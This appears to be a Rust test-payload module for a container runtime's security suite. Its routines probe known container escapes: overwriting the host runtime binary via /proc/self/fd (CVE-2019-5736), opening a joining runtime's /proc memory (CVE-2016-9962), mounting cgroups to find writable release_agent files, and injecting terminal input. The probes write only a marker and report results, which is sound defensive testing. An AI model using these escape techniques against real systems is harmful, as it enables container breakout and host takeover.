//! What a hostile program does to the runtime that started it or joins it.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::process::CommandExt as _;
use std::process::Command;
use std::time::{Duration, Instant};

use super::{error_name, number, say};

/// The verbs that attack.
pub(super) fn run(words: &[&str]) -> io::Result<()> {
    match words {
        ["overwrite", program, fifo] => {
            let handle = File::open(program)?;
            say("opened")?;
            // Its reader lets the program end: a running one cannot be written.
            drop(File::open(fifo)?);
            overwrite(&handle)
        }
        ["overwrite-joiner", seconds] => overwrite_joiner(number(seconds)?),
        ["trace-joiners", seconds] => trace_joiners(number(seconds)?),
        ["type", text] => Ok(text
            .bytes()
            .try_for_each(|byte| sys::terminal_input::push(io::stdin(), byte))?),
        ["name", name] => fs::write("/proc/self/comm", name),
        ["traced", program, args @ ..] => {
            sys::syscall_stops::trace_me()?;
            Err(Command::new(program).args(args).exec())
        }
        ["hierarchy", controller, place] => Ok(rustix::mount::mount(
            "cgroup",
            *place,
            "cgroup",
            rustix::mount::MountFlags::empty(),
            Some(std::ffi::CString::new(*controller)?.as_c_str()),
        )?),
        ["rmdir", path] => fs::remove_dir(path),
        ["release-agents"] => release_agents(),
        _ => Err(io::Error::other("no such verb")),
    }
}

/// Writes a program through a handle that was opened for reading, as soon as it no longer runs, and
/// says how that went (CVE-2019-5736).
fn overwrite(handle: &File) -> io::Result<()> {
    let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
    let end = Instant::now() + Duration::from_secs(3);
    loop {
        match OpenOptions::new().write(true).open(&again) {
            Ok(mut program) => {
                program.write_all(b"#!/overwritten\n")?;
                return say("overwritten");
            }
            Err(error) if error_name(&error) == "ETXTBSY" && Instant::now() < end => {
                std::thread::sleep(Duration::from_micros(200));
            }
            Err(error) => return say(&format!("not overwritten: {}", error_name(&error))),
        }
    }
}

/// Takes a handle on the program of whoever joins this pid namespace, and writes it.
fn overwrite_joiner(seconds: u64) -> io::Result<()> {
    say("ready")?;
    let own = std::process::id();
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end {
        for pid in (2..64).filter(|pid| *pid != own) {
            let link = format!("/proc/{pid}/exe");
            let of_runtime =
                |link: &str| fs::read_link(link).is_ok_and(|path| !path.ends_with("payload"));
            if !of_runtime(&link) {
                continue;
            }
            if let Ok(handle) = File::open(&link)
                && of_runtime(&format!("/proc/self/fd/{}", handle.as_raw_fd()))
            {
                say("opened")?;
                return overwrite(&handle);
            }
        }
    }
    say("found nobody")
}

/// Opens the memory of whoever joins this pid namespace while it still is the runtime: what may be
/// opened so may be traced, and its descriptors taken (CVE-2016-9962).
fn trace_joiners(seconds: u64) -> io::Result<()> {
    say("ready")?;
    let (mut seen, mut reached) = (0_u32, 0_u32);
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end {
        for pid in 2..64 {
            let runtime = || {
                fs::read(format!("/proc/{pid}/cmdline"))
                    .is_ok_and(|line| !line.is_empty() && !line.starts_with(b"/payload"))
            };
            if !runtime() {
                continue;
            }
            seen += 1;
            let memory = OpenOptions::new()
                .read(true)
                .write(true)
                .open(format!("/proc/{pid}/mem"));
            let link = fs::read_link(format!("/proc/{pid}/root"));
            // Looked at again: it may have become the payload in between, and that is ours to trace.
            if (memory.is_ok() || link.is_ok()) && runtime() {
                reached += 1;
            }
        }
    }
    say(&format!("seen={} reached={reached}", seen > 0))
}

/// Every hierarchy's `release_agent` that can be reached and written.
fn release_agents() -> io::Result<()> {
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    for line in mounts.lines().filter(|line| line.contains(" - cgroup")) {
        let Some(point) = line.split(' ').nth(4) else {
            continue;
        };
        let agent = format!("{point}/release_agent");
        if OpenOptions::new().write(true).open(&agent).is_ok() {
            say(&agent)?;
        }
    }
    say("done")
}
